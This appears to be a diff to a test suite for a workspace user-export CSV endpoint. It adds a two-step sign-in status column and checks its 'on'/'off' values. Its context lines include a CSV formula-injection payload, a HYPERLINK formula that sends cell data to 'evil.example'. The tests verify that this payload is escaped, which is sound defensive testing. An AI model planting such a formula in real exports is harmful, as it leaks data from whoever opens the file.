@@ -22,6 +22,7 @@ const SPEC_HEADER = [
   "joined or invited at",
   "invited by",
   "access until",
+  "two-step sign-in",
 ];
 const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;
 
@@ -61,6 +62,12 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       .set({ access_until: new Date("2027-01-31T22:59:59.999Z") })
       .where("user_id", "=", quiet.id)
       .execute();
+    // Two-step sign-in: a confirmed app is "on"; a set-up never confirmed is still "off".
+    await t.db
+      .insertInto("user_totp")
+      .values({ user_id: arabic.id, secret_sealed: "x", confirmed_at: new Date() })
+      .execute();
+    await t.db.insertInto("user_totp").values({ user_id: quiet.id, secret_sealed: "x" }).execute();
     await insertTeam(t.db, ws.workspaceId, "فريق الدعم", [arabic.id]);
     await insertTeam(t.db, ws.workspaceId, "Alpha", [arabic.id]);
     await insertInvitation(t.db, {
@@ -118,6 +125,7 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       expect.stringMatching(ISO_UTC),
       owner.email,
       "",
+      "on",
     ]);
     const evilRow = byEmail.get("evil@example.com")!;
     expect(evilRow[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
@@ -135,6 +143,7 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
     expect(byEmail.get("no.name@example.com")![0]).toBe("");
     expect(byEmail.get("no.name@example.com")![6], "never active → empty").toBe("");
     expect(byEmail.get("no.name@example.com")![10]).toBe("2027-01-31T22:59:59.999Z");
+    expect(byEmail.get("no.name@example.com")![11]).toBe("off");
     expect(byEmail.get("pending@example.com")).toEqual([
       "",
       "pending@example.com",
@@ -146,6 +155,7 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       "",
       expect.stringMatching(ISO_UTC),
       owner.email,
+      "",
       "",
     ]);
     for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
